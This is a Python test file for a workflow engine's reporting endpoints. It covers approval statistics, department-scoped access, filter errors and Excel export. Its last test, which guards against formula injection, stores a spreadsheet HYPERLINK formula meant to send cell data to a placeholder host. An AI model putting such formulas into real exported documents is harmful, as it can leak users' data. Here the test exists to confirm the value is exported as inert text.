"""Reports (engine/reports.py) over a hand-built set of requests with known durations, on SQLite and
PostgreSQL: counts, approval rates, median and p90 (interpolated like percentile_cont), overdue,
people, bottlenecks, weekly trends and the SLA view; who may see what; filters refused at their
field; the Excel export read back with openpyxl.

The set (process two_step, step `sup`), T0 = Monday 2026-11-02 09:00 UTC:
  clerk (销售部) I1 1h approved, I2 2h approved, I3 3h rejected — started T0;
                 I4 4h approved, I5 running — started T0+7d
  fin1  (财务部) I6 10h approved — started T0
  step sup: decided after 30, 60 (due after 30: overdue), 90 (rejected), 120 min; I5 open and past
  its due time (overdue); I6 600 min. An urge on I5 while its task is open, one on I1 after it.
"""
from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from openpyxl import load_workbook

from engine.models import AuditEvent, HumanTask, NodeActivation, ProcessDefinition, ProcessInstance
from tests.api.conftest import API, TWO_STEP, assert_error, deploy, login
from tests.org import Org

T0 = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
H, M = timedelta(hours=1), timedelta(minutes=1)


@pytest.fixture
def client(any_org: Org, app_for: Any) -> Any:
    c = app_for(any_org.db, SECRET_KEY="test", TESTING=True).test_client()
    assert deploy(c, TWO_STEP).status_code == 201
    _build(any_org)
    return c


def _build(org: Org) -> None:
    # (initiator, started, run time or None, outcome, sup decided after, sup status, task due after, approver)
    rows = [("clerk", T0, 1 * H, "approved", 30 * M, "approved", None, "sales_lead"),
            ("clerk", T0, 2 * H, "approved", 60 * M, "approved", 30 * M, "sales_lead"),
            ("clerk", T0, 3 * H, "rejected", 90 * M, "rejected", None, "sales_lead"),
            ("clerk", T0 + 7 * 24 * H, 4 * H, "approved", 120 * M, "approved", None, "sales_lead"),
            ("clerk", T0 + 7 * 24 * H, None, None, None, "open", 1 * H, "sales_lead"),
            ("fin1", T0, 10 * H, "approved", 600 * M, "approved", None, "fin_head")]
    with org.db.uow(write=True) as s:
        d = s.query(ProcessDefinition).filter_by(key="two_step").one()
        for i, (who, at, run, outcome, took, status, due, approver) in enumerate(rows, 1):
            inst = ProcessInstance(definition_id=d.id, process_key="two_step", business_key=f"RPT-{i}",
                                   status="completed" if run else "running", outcome=outcome,
                                   initiator_id=org[who], title=f"r{i}", data={}, state="{}", created_at=at,
                                   updated_at=at, ended_at=at + run if run else None)
            s.add(inst)
            s.flush()
            act = NodeActivation(instance_id=inst.id, node_id="sup", node_name="主管审批", spiff_task_id=f"t{i}",
                                 kind="approval", mode="any", assignee_ids=[org[approver]], status=status,
                                 created_at=at, decided_at=at + took if took else None)
            s.add(act)
            s.flush()
            s.add(HumanTask(instance_id=inst.id, activation_id=act.id, node_id="sup", node_name="主管审批",
                            assignee_id=org[approver], status=status, created_at=at,
                            acted_at=at + took if took else None, due_at=at + due if due else None))
            if i in (1, 5):  # an urge: on I1 after its task was decided, on I5 while it is open
                s.add(AuditEvent(instance_id=inst.id, seq=1, at=at + 5 * H, actor_id=org[who], action="urge",
                                 detail={}, prev_hash="0" * 64, hash=f"{i}" * 64))


def get(client: Any, user: str, name: str, **params: Any) -> Any:
    return client.get(f"{API}/reports/{name}", query_string=params, headers=login(client, user))


def rows(client: Any, user: str, name: str, **params: Any) -> list[dict[str, Any]]:
    r = get(client, user, name, **params)
    assert r.status_code == 200, r.get_json()
    return r.get_json()["rows"]


def test_process_figures_for_the_admin(client):
    (p,) = rows(client, "admin", "processes")
    assert {k: p[k] for k in ("process", "count", "approved", "rejected", "running", "approval_rate", "overdue")} == {
        "process": "two_step", "count": 6, "approved": 4, "rejected": 1, "running": 1, "approval_rate": 0.8,
        "overdue": 2}
    # durations 1, 2, 3, 4, 10 h: median 3 h; p90 at rank 4.6 = 4 h + 0.6 * 6 h = 7.6 h
    assert p["median_seconds"] == 3 * 3600 and p["p90_seconds"] == 27360


def test_a_head_sees_only_their_department_tree(client):
    (p,) = rows(client, "sales_head", "processes")
    assert p["count"] == 5 and p["approval_rate"] == 0.75
    assert p["median_seconds"] == 9000 and p["p90_seconds"] == 13320  # 1,2,3,4 h: 2.5 h; rank 3.7
    (f,) = rows(client, "fin_head", "processes")
    assert f["count"] == 1 and f["median_seconds"] == f["p90_seconds"] == 36000
    assert rows(client, "gm", "processes")[0]["count"] == 6  # 总经办 is the root: every department below
    assert [u["username"] for u in rows(client, "sales_head", "people")] == ["sales_lead"]
    err = assert_error(get(client, "sales_head", "processes", department=client.application and _dept(client, "财务部")),
                       403)
    assert err["code"] == "forbidden"


def _dept(client: Any, name: str) -> int:
    menu = client.get(f"{API}/reports", headers=login(client, "admin")).get_json()
    return next(d["id"] for d in menu["departments"] if d["name"] == name)


def test_node_people_bottleneck_trend_and_sla_figures(client):
    (n,) = rows(client, "admin", "nodes")
    assert {k: n[k] for k in ("node_id", "node_name", "count", "approved", "rejected", "open", "approval_rate",
                              "overdue")} == {"node_id": "sup", "node_name": "主管审批", "count": 6, "approved": 4,
                                              "rejected": 1, "open": 1, "approval_rate": 0.8, "overdue": 2}
    assert n["median_seconds"] == 5400 and n["p90_seconds"] == 24480  # 30,60,90,120,600 min
    people = {u["username"]: u for u in rows(client, "admin", "people")}
    assert people["sales_lead"] | {} == {**people["sales_lead"], "pending": 1, "overdue": 1, "decided": 4,
                                         "avg_decide_seconds": 4500.0}
    assert people["fin_head"]["pending"] == 0 and people["fin_head"]["avg_decide_seconds"] == 36000.0
    assert [b["node_id"] for b in rows(client, "admin", "bottlenecks")] == ["sup"]
    assert rows(client, "admin", "trends") == [
        {"week": "2026-11-02", "started": 4, "finished": 4, "approved": 3, "rejected": 1},
        {"week": "2026-11-09", "started": 2, "finished": 1, "approved": 1, "rejected": 0}]
    (sla,) = rows(client, "admin", "sla")
    assert {k: sla[k] for k in ("node_id", "tasks", "due", "overdue", "urged")} == {
        "node_id": "sup", "tasks": 6, "due": 2, "overdue": 2, "urged": 1}


def test_filters_narrow_and_a_bad_one_is_named(client):
    (p,) = rows(client, "admin", "processes", **{"from": "2026-11-09"})
    assert p["count"] == 2
    (p,) = rows(client, "admin", "processes", to="2026-11-02")
    assert p["count"] == 4
    (p,) = rows(client, "admin", "processes", department=str(_dept(client, "销售部")))
    assert p["count"] == 5
    assert rows(client, "admin", "processes", process="two_step")[0]["count"] == 6
    assert "from" in assert_error(get(client, "admin", "processes", **{"from": "yesterday"}), 422)["fields"]
    assert "to" in assert_error(get(client, "admin", "processes", **{"from": "2026-11-09", "to": "2026-11-01"}),
                                422)["fields"]
    assert set(assert_error(get(client, "admin", "nodes", process="nope"), 422)["fields"]) == {"process"}
    assert set(assert_error(get(client, "admin", "people", department="x"), 422)["fields"]) == {"department"}
    assert_error(get(client, "admin", "nothing"), 404)


def test_who_may_not_see_reports(client):
    assert_error(get(client, "clerk", "processes"), 403)
    assert_error(client.get(f"{API}/reports", headers=login(client, "clerk")), 403)
    assert_error(client.get(f"{API}/reports/processes.xlsx", headers=login(client, "clerk")), 403)
    assert_error(get(client, "sales_head", "sla"), 403)  # the SLA view is the admins'
    assert client.get(f"{API}/me", headers=login(client, "sales_head")).get_json()["is_head"] is True  # the menu
    assert client.get(f"{API}/me", headers=login(client, "clerk")).get_json()["is_head"] is False
    menu = client.get(f"{API}/reports", headers=login(client, "sales_head")).get_json()
    assert "sla" not in menu["reports"] and {d["name"] for d in menu["departments"]} == {"销售部"}


def test_excel_export_holds_the_same_rows(client):
    r = client.get(f"{API}/reports/nodes.xlsx", headers=login(client, "admin"))
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    ws = load_workbook(io.BytesIO(r.data)).active
    values = list(ws.values)
    assert values[0][:3] == ("流程", "节点", "数量")  # admin's locale: zh
    assert values[1][1:4] == ("主管审批", 6, 4) and values[1][7] == 1.5 and values[1][8] == 6.8  # hours
    assert len(values) == 2
    r = client.get(f"{API}/reports/processes.xlsx", query_string={"from": "bad"}, headers=login(client, "admin"))
    assert "from" in assert_error(r, 422)["fields"]


def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, any_org):
    """Step and process names come from whoever drew the BPMN; Excel must not run one as a formula."""
    name = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    with any_org.db.uow(write=True) as s:
        for act in s.query(NodeActivation):
            act.node_name = name
    r = client.get(f"{API}/reports/nodes.xlsx", headers=login(client, "admin"))
    cell = load_workbook(io.BytesIO(r.data)).active["B2"]
    assert (cell.value, cell.data_type) == (name, "s")
